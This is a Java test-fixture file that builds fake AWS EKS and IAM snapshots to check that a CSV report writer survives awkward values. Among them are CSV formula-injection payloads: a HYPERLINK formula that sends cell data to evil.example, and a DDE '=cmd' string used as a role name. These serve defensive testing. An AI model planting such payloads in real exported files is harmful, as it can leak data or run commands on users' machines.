package dev.eksatlas.report;

import dev.eksatlas.domain.AccountSnapshot;
import dev.eksatlas.domain.AwsAccount;
import dev.eksatlas.domain.CoverageGap;
import dev.eksatlas.domain.EksCluster;
import dev.eksatlas.domain.IamRole;
import dev.eksatlas.domain.OidcProvider;
import dev.eksatlas.domain.PodIdentityAssociation;
import java.time.Instant;
import java.util.List;
import java.util.Map;

/**
 * Two small accounts whose values hold everything a CSV file must survive: separators, quotes,
 * line breaks, Korean text, emoji and formula-injection attempts.
 */
public final class TestSnapshots {
    public static final String PROD = "111111111111";
    public static final String DEV = "022222222222";
    public static final Instant PROD_SCAN = Instant.parse("2026-11-20T08:30:15.250Z");
    public static final Instant DEV_SCAN = Instant.parse("2026-11-21T09:00:00Z");
    public static final String ISSUER = "oidc.eks.eu-west-1.amazonaws.com/id/A1B2C3";
    public static final String OTHER_ISSUER = "oidc.eks.eu-west-1.amazonaws.com/id/FFFF";

    /** Values that must come back unchanged after a CSV round trip. */
    public static final List<String> NASTY = List.of(
            "plain", "with, comma", "with; semicolon", "say \"hi\"", "line\r\nbreak", "lone\nlf", "lone\rcr",
            "클러스터 역할", "rocket 🚀 and 👩‍💻", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2+3",
            "@SUM(A1:A9)", "\tTAB", "\rCR first", "'quoted already", "＝1+2", " leading space", "", "it's");

    private TestSnapshots() {
    }

    public static List<AccountSnapshot> both() {
        return List.of(prod(), dev());
    }

    public static AccountSnapshot prod() {
        EksCluster payments = cluster(PROD, "eu-west-1", "payments", "https://" + ISSUER, Map.of("team", "클러스터 팀", "cost", "=1+2"));
        EksCluster search = cluster(PROD, "eu-west-1", "search", "https://" + OTHER_ISSUER, Map.of());
        EksCluster paymentsUs = cluster(PROD, "us-east-1", "payments", null, Map.of());
        IamRole irsa = role(PROD, "payments-irsa", """
                {"Version":"2012-10-17","Statement":[{"Effect":"Allow",
                 "Principal":{"Federated":"arn:aws:iam::111111111111:oidc-provider/%s"},
                 "Action":"sts:AssumeRoleWithWebIdentity",
                 "Condition":{"StringEquals":{"%s:sub":"system:serviceaccount:pay:api"}}}]}""".formatted(ISSUER, ISSUER));
        IamRole podIdentity = role(PROD, "payments-pod-identity",
                "{\"Statement\":[{\"Principal\":{\"Service\":\"pods.eks.amazonaws.com\"}}]}");
        IamRole unrelated = role(PROD, "=cmd|' /C calc'!A0", "{}");
        OidcProvider provider = new OidcProvider(PROD, "arn:aws:iam::" + PROD + ":oidc-provider/" + ISSUER, ISSUER,
                List.of("sts.amazonaws.com"), List.of("9e99a48a9960b14926bb7f3b02e22da2b0ab7280"), PROD_SCAN.minusSeconds(86_400), Map.of());
        OidcProvider otherProvider = new OidcProvider(PROD, "arn:aws:iam::" + PROD + ":oidc-provider/" + OTHER_ISSUER, OTHER_ISSUER,
                List.of("sts.amazonaws.com", "-evil"), List.of(), null, Map.of());
        PodIdentityAssociation association = new PodIdentityAssociation(PROD, "eu-west-1", "payments", "a-1",
                "arn:aws:eks:eu-west-1:" + PROD + ":podidentityassociation/payments/a-1", "pay", "worker",
                podIdentity.arn(), null, null, null, null, "{\"Version\": \"2012-10-17\",\n \"Statement\": []}",
                PROD_SCAN.minusSeconds(60), null, Map.of("note", "line1\nline2"));
        PodIdentityAssociation searchAssociation = new PodIdentityAssociation(PROD, "eu-west-1", "search", "a-2",
                "arn:aws:eks:eu-west-1:" + PROD + ":podidentityassociation/search/a-2", "+ns", "@sa",
                unrelated.arn(), null, "ext, id", true, null, null, null, null, Map.of());
        List<CoverageGap> gaps = List.of(
                new CoverageGap(PROD, "eu-west-1", "eks", "ListPodIdentityAssociations", "payments", "AccessDeniedException", "-denied, \"quoted\""),
                new CoverageGap(PROD, "eu-west-1", "eks", "DescribeCluster", "search", "ThrottlingException", "throttled"),
                new CoverageGap(PROD, "ap-east-1", "eks", "ListClusters", null, "UnrecognizedClientException", "region not enabled"),
                new CoverageGap(PROD, "global", "iam", "GetRole", "payments-irsa", "AccessDenied", "no iam:GetRole"));
        return new AccountSnapshot(new AwsAccount(PROD, "aws", "prod"), "prod", List.of("eu-west-1", "us-east-1"),
                PROD_SCAN.minusSeconds(120), PROD_SCAN, List.of(search, payments, paymentsUs), List.of(otherProvider, provider),
                List.of(unrelated, podIdentity, irsa), List.of(searchAssociation, association), List.of(), List.of(), List.of(),
                gaps, 42, null);
    }

    public static AccountSnapshot dev() {
        EksCluster sandbox = cluster(DEV, "ap-northeast-2", "샌드박스-🚀", "https://oidc.eks.ap-northeast-2.amazonaws.com/id/DEV1",
                Map.of("owner", "@ops", "desc", "has, comma; and \"quotes\"\r\nand a break"));
        IamRole devRole = role(DEV, "dev-role", "{\"Statement\":[]}\n");
        return new AccountSnapshot(new AwsAccount(DEV, "aws", null), "dev-sso", List.of("ap-northeast-2"),
                DEV_SCAN.minusSeconds(30), DEV_SCAN, List.of(sandbox), List.of(), List.of(devRole), List.of(), List.of(),
                List.of(), List.of(), List.of(), 7, null);
    }

    public static EksCluster cluster(String account, String region, String name, String issuer, Map<String, String> tags) {
        return new EksCluster(account, region, name, "arn:aws:eks:" + region + ":" + account + ":cluster/" + name, "1.30",
                "eks.12", "ACTIVE", issuer, List.of("api", "audit"), "API_AND_CONFIG_MAP", false,
                Instant.parse("2025-01-02T03:04:05.678Z"), tags);
    }

    public static IamRole role(String account, String name, String trustPolicy) {
        return new IamRole(account, "arn:aws:iam::" + account + ":role/" + name, name, "/", Instant.parse("2024-06-01T00:00:00Z"),
                3600, trustPolicy, IamRole.policySize(trustPolicy), true, null, null, Map.of("env", "-prod"));
    }
}
